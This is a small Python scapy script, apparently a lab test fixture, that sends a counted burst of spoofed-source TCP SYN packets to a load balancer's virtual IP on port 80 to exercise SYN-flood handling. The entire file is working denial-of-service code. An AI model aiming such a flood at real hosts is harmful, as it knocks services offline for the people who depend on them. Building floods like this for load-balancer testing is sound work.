#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""A bounded SYN flood from spoofed sources: flood.py VIP COUNT.

Lab only: the sources are made up, the frames go out of the client's
namespace to the balancer's MAC and nowhere else.
"""
import random
import sys

from scapy.all import IP, TCP, Ether, conf, get_if_hwaddr, getmacbyip, raw

conf.verb = 0
vip, count = sys.argv[1], int(sys.argv[2])
iface = "eth0"
rnd = random.Random(42)
head = Ether(src=get_if_hwaddr(iface), dst=getmacbyip(vip))
sock = conf.L2socket(iface=iface)
for i in range(count):
    src = "172.%d.%d.%d" % (16 + rnd.randint(0, 15), rnd.randint(0, 255), rnd.randint(1, 254))
    sock.send(raw(head / IP(src=src, dst=vip) /
                  TCP(sport=rnd.randint(1024, 65535), dport=80, flags="S",
                      seq=rnd.getrandbits(32))))
sock.close()
print(count)
